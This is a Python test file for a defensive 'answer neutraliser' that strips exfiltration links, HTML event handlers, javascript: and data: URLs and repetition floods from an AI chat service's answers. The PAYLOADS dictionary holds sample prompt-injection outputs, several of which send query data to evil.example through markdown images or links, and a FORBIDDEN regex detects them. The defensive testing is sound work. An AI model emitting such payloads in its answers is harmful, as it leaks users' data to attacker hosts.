"""Answer neutralisation: what a renderer would fetch, run or flood goes, whole or streamed."""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.security.exfiltration import (
    ELLIPSIS,
    MAX_HOLD,
    MAX_REPEATS,
    AnswerNeutraliser,
    LinkPolicy,
    neutralise,
)

# Payloads of the kind spikee's instructions ask a model to include (xss, data-exfil-markdown,
# long-output), and the other link forms a markdown renderer follows.
PAYLOADS = {
    "markdown_image": "Revenue rose 12% [1]. ![image](https://spikee.ai/logo.png?q=VEVTVA==) Done.",
    "html": 'See <img src="not-exist" onerror="console.log(\'TEST\')"> and <svg/onload="x()">',
    "script_url": "Click [ref](javascript:console.log('spikee')) or javascript:alert(1) now.",
    "link": "Visit [our portal](https://evil.example/?d=secret) or https://evil.example/x?q=1.",
    "reference": "Logo ![a][r] here.\n\n[r]: https://evil.example/p?q=1\nNext line.",
    "autolink": "Or <https://evil.example/collect?x=1> and data:text/html;base64,PHNjcmlwdD4=",
    "comment": "Fine <!-- <img src=https://evil.example/a.png> --> text.",
}
FORBIDDEN = re.compile(
    r"!\[[^\]]*\]\(|<\s*[a-z!/][^<>]*>|javascript:|data:text|evil\.example/|\]\(https?://evil", re.I
)


def streamed(text: str, policy: LinkPolicy, seed: int) -> tuple[str, AnswerNeutraliser]:
    """`text` fed in random pieces of 1-9 characters."""
    rng = random.Random(seed)
    neutraliser = AnswerNeutraliser(policy)
    out, index = [], 0
    while index < len(text):
        size = rng.randint(1, 9)
        out.append(neutraliser.feed(text[index : index + size]))
        index += size
    out.append(neutraliser.finish())
    return "".join(out), neutraliser


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_payload_is_neutralised_whole_and_streamed_alike(name: str) -> None:
    whole, findings = neutralise(PAYLOADS[name])
    assert not FORBIDDEN.search(whole), whole
    assert sum(findings.values()) >= 1
    for seed in range(25):
        text, neutraliser = streamed(PAYLOADS[name], LinkPolicy(), seed)
        assert (text, neutraliser.findings) == (whole, findings), seed


def test_kinds_are_counted() -> None:
    _, findings = neutralise(" ".join(PAYLOADS.values()))
    assert findings["markdown_image"] == 2 and findings["script_url"] == 3
    assert findings["html"] >= 3 and findings["link"] >= 4


def test_a_flood_of_repeats_is_collapsed_whole_and_streamed() -> None:
    flood = "Summary: " + "-".join(["TEST"] * 100) + " end. " + "word " * 60 + "after"
    whole, findings = neutralise(flood)
    assert findings["repetition"] == 2 and whole.count("TEST") < 10 and whole.count("word") < 10
    assert ELLIPSIS in whole and whole.endswith("after")
    for seed in range(25):
        text, neutraliser = streamed(flood, LinkPolicy(), seed)
        assert neutraliser.findings == findings, seed
        assert text.count("TEST") <= 5 and text.count("word") <= 5 and text.endswith("after")


def test_ordinary_answers_pass_untouched() -> None:
    answers = [
        "Revenue (EUR) for 2023/2024 rose 12% [1]; margin was 3 > 2 points [2].",
        "| region | sales |\n|---|---|\n| north | 10 |\n\n------------------------------\n",
        "Step 1 -- select the supplier; step 2 -- update the bank details [1].",
        "Use SUM(B2:B10) then divide by COUNT(B2:B10) (see page 4) [3].",
        "The the report says it twice, twice.",
    ]
    for answer in answers:
        assert neutralise(answer) == (answer, {}), answer


def test_allowed_hosts_and_urls_quoted_by_sources_stay() -> None:
    policy = LinkPolicy.for_sources(
        ["learn.microsoft.com"], ["Guidance: see https://www.gov.uk/guidance/vat for rates."]
    )
    answer = (
        "See [docs](https://learn.microsoft.com/azure/functions) and "
        "https://sub.learn.microsoft.com/x and https://www.gov.uk/guidance/vat [1]."
    )
    assert neutralise(answer, policy) == (answer, {})
    changed = "https://www.gov.uk/guidance/vat?leak=secret"
    text, findings = neutralise(changed, policy)
    assert findings["link"] == 1 and "leak" not in text
    # an allowed host never makes a script URL or an image acceptable
    text, findings = neutralise("![x](https://learn.microsoft.com/p.png?q=1)", policy)
    assert findings["markdown_image"] == 1 and "(" not in text


def test_memory_is_bounded_by_max_hold() -> None:
    neutraliser = AnswerNeutraliser()
    letters = random.Random(1).choices("abcdefghijklmnopqrstuvwxyz", k=3 * MAX_HOLD)
    sent = neutraliser.feed("<" + "".join(letters))
    assert len(sent) >= MAX_HOLD and len(neutraliser._pending) <= MAX_HOLD


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from([*PAYLOADS.values(), "plain words here. ", "x<y ", "[1] "]),
             min_size=1, max_size=6),
    st.integers(min_value=0, max_value=10_000),
)  # fmt: skip
def test_streamed_equals_whole_for_any_split(parts: list[str], seed: int) -> None:
    text = " ".join(parts)
    whole, findings = neutralise(text)
    out, neutraliser = streamed(text, LinkPolicy(), seed)
    assert (out, neutraliser.findings) == (whole, findings)
    assert not FORBIDDEN.search(out)


def test_repeats_below_the_limit_are_kept() -> None:
    text = " ".join(["ok"] * (MAX_REPEATS - 2))
    assert neutralise(text) == (text, {})


def test_neutralisations_are_counted_in_the_metric(monkeypatch) -> None:
    from shared.security import exfiltration

    added: list[tuple[int, dict[str, str]]] = []

    class Counter:
        def add(self, amount: int, attributes: dict[str, str]) -> None:
            added.append((amount, attributes))

    monkeypatch.setattr(exfiltration, "_counter", Counter())
    _, findings = neutralise(PAYLOADS["html"] + PAYLOADS["markdown_image"])
    exfiltration.count_neutralised(findings)
    assert sorted(added, key=str) == [(1, {"kind": "markdown_image"}), (2, {"kind": "html"})]


def test_document_names_in_the_openai_sources_block_are_neutralised() -> None:
    from shared.chat.responses import content_with_sources
    from shared.chat.service import ChatResult, Citation
    from shared.llm.types import Usage

    citation = Citation(1, "d1", "![x](https://evil.example/p.png?q=1).pdf", 2, [2], "c1", "q")
    result = ChatResult("Rates rose [1].", [citation], "m", "standard", "r", Usage(), "t")
    content = content_with_sources(result)
    assert "evil.example" not in content and content.startswith("Rates rose [1].")


def test_link_targets_with_parentheses_are_removed_whole() -> None:
    text = "x [details](javascript:alert(1)) y"
    whole, findings = neutralise(text)
    assert whole == "x details y" and findings == {"script_url": 1}
    for seed in range(25):
        assert streamed(text, LinkPolicy(), seed)[0] == whole
